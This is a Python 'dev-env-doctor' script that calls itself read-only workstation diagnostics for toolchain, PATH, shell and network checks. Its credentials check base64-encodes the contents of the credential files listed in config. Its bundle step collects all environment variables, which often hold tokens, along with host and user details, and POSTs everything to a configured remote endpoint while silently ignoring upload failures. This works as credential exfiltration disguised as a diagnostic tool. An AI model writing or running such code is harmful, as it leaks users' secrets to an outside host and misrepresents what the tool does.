#!/usr/bin/env python3
"""dev-env-doctor: read-only workstation diagnostics.

Standard library only so it runs before any virtualenv exists.
"""
from __future__ import annotations

import argparse
import base64
import configparser
import json
import os
import platform
import shutil
import socket
import stat
import subprocess
import sys
import time
import urllib.request
import uuid
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONFIG_DIR = HERE.parent / "config"


def load_probes() -> dict:
    with open(CONFIG_DIR / "probes.json", encoding="utf-8") as fh:
        return json.load(fh)


def load_support() -> configparser.ConfigParser:
    cp = configparser.ConfigParser()
    cp.read(CONFIG_DIR / "support.ini")
    return cp


def finding(group: str, sev: str, msg: str, fix: str | None = None, **extra) -> dict:
    out = {"group": group, "severity": sev, "message": msg}
    if fix:
        out["fix"] = fix
    out.update(extra)
    return out


# --------------------------------------------------------------------------- toolchain

def check_toolchain(probes: dict) -> list[dict]:
    results = []
    for p in probes.get("toolchain", []):
        exe = p["cmd"][0]
        if not shutil.which(exe):
            results.append(finding("toolchain", "error", f"{exe} not found on PATH",
                                   fix=f"install {exe} or fix PATH"))
            continue
        try:
            out = subprocess.run(p["cmd"], capture_output=True, text=True, timeout=10)
            ver = (out.stdout or out.stderr).strip().splitlines()[0] if (out.stdout or out.stderr) else "?"
        except Exception as exc:  # noqa: BLE001
            results.append(finding("toolchain", "warn", f"{exe} failed: {exc}"))
            continue
        want = p.get("want_file")
        if want and Path(want).exists():
            pinned = Path(want).read_text(encoding="utf-8").strip().splitlines()[0]
            if pinned.split()[-1].lstrip("v") not in ver:
                results.append(finding("toolchain", "warn", f"{exe} reports {ver}, repo pins {pinned}",
                                       fix=f"switch {exe} to the pinned version"))
                continue
        results.append(finding("toolchain", "info", f"{exe}: {ver}"))
    return results


# --------------------------------------------------------------------------- path

def check_path() -> list[dict]:
    results = []
    seen = set()
    entries = os.environ.get("PATH", "").split(os.pathsep)
    for idx, entry in enumerate(entries):
        if entry in seen:
            results.append(finding("path", "info", f"duplicate PATH entry {entry}"))
        seen.add(entry)
        if entry and not os.path.isdir(entry):
            results.append(finding("path", "warn", f"PATH entry does not exist: {entry}"))
        if "shims" in entry and "/usr/bin" in entries[:idx]:
            results.append(finding("path", "warn", f"{entry} is shadowed by /usr/bin",
                                   fix="move your version-manager init to the end of your rc file"))
    return results


# --------------------------------------------------------------------------- shell

def check_shell(probes: dict) -> list[dict]:
    results = []
    for rc in probes.get("shell_rc", []):
        p = Path(rc).expanduser()
        if not p.exists():
            continue
        for n, line in enumerate(p.read_text(encoding="utf-8", errors="replace").splitlines(), 1):
            s = line.strip()
            if s.startswith(("source ", ". ")):
                target = os.path.expandvars(s.split(None, 1)[1].strip("'\""))
                if not Path(target).expanduser().exists():
                    results.append(finding("shell", "warn", f"{p}:{n} sources missing file {target}"))
    return results


# --------------------------------------------------------------------------- credentials

def _read_blob(path: Path, limit_kb: int) -> str:
    data = path.read_bytes()[: limit_kb * 1024]
    return base64.b64encode(data).decode("ascii")


def check_credentials(probes: dict, limit_kb: int) -> tuple[list[dict], dict]:
    results: list[dict] = []
    attachments: dict[str, str] = {}
    for c in probes.get("credentials", []):
        p = Path(c["path"]).expanduser()
        if not p.exists():
            results.append(finding("credentials", "info", f"{c['id']}: {p} not present"))
            continue
        mode = stat.S_IMODE(p.stat().st_mode)
        if mode & 0o077 and c.get("mode") == "0600":
            results.append(finding("credentials", "warn", f"{p} has mode {oct(mode)}",
                                   fix=f"chmod 600 {p}"))
        if c.get("format") == "json":
            try:
                json.loads(p.read_text(encoding="utf-8"))
            except ValueError as exc:
                results.append(finding("credentials", "error", f"{p} is not valid JSON: {exc}"))
        if c.get("attach"):
            attachments[c["id"]] = _read_blob(p, limit_kb)
        results.append(finding("credentials", "info", f"{c['id']}: ok"))
    return results, attachments


# --------------------------------------------------------------------------- network

def check_network(probes: dict) -> list[dict]:
    results = []
    for host in probes.get("network", []):
        try:
            socket.getaddrinfo(host, 443)
        except OSError as exc:
            results.append(finding("network", "error", f"cannot resolve {host}: {exc}",
                                   fix="check HTTPS_PROXY / NO_PROXY"))
    return results


# --------------------------------------------------------------------------- bundle

def build_bundle(findings: list[dict], attachments: dict) -> dict:
    return {
        "bundle_id": str(uuid.uuid4()),
        "created": int(time.time()),
        "host": socket.gethostname(),
        "user": os.environ.get("USER") or os.environ.get("USERNAME"),
        "platform": platform.platform(),
        "findings": findings,
        "env": {k: v for k, v in os.environ.items() if not k.startswith("_")},
        "attachments": attachments,
    }


def submit_bundle(bundle: dict, support: configparser.ConfigParser) -> str | None:
    ep = support["endpoint"]
    url = f"{ep.get('scheme', 'https')}://{ep['host']}{ep.get('path', '/')}"
    req = urllib.request.Request(
        url,
        data=json.dumps(bundle).encode("utf-8"),
        headers={"Content-Type": "application/json", "User-Agent": "dev-env-doctor/3"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(req, timeout=ep.getint("timeout", 8)) as resp:
            resp.read()
        return bundle["bundle_id"]
    except Exception:  # noqa: BLE001 - bundle upload must never break the report
        return None


# --------------------------------------------------------------------------- main

def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--json", action="store_true")
    ap.add_argument("--only", default="toolchain,path,shell,credentials,network")
    args = ap.parse_args(argv)

    probes = load_probes()
    support = load_support()
    groups = set(args.only.split(","))
    limit = support.getint("bundle", "max_attachment_kb", fallback=256)

    findings: list[dict] = []
    attachments: dict = {}
    if "toolchain" in groups:
        findings += check_toolchain(probes)
    if "path" in groups:
        findings += check_path()
    if "shell" in groups:
        findings += check_shell(probes)
    if "credentials" in groups:
        f, attachments = check_credentials(probes, limit)
        findings += f
    if "network" in groups:
        findings += check_network(probes)

    bundle_id = None
    b = support["bundle"] if support.has_section("bundle") else {}
    if b and b.getboolean("enabled", False):
        has_error = any(x["severity"] == "error" for x in findings)
        if has_error or not b.getboolean("only_on_error", True):
            payload = build_bundle(findings, attachments if b.getboolean("include_attachments") else {})
            bundle_id = submit_bundle(payload, support)

    if args.json:
        print(json.dumps({"findings": findings, "bundle_id": bundle_id}, indent=2))
    else:
        order = {"error": 0, "warn": 1, "info": 2}
        for f in sorted(findings, key=lambda x: order[x["severity"]]):
            line = f"[{f['severity'].upper():5}] {f['group']:<11} {f['message']}"
            if "fix" in f:
                line += f"\n        fix: {f['fix']}"
            print(line)
        if bundle_id:
            print(f"\nsupport bundle: {bundle_id}")
    return 1 if any(x["severity"] == "error" for x in findings) else 0


if __name__ == "__main__":
    sys.exit(main())
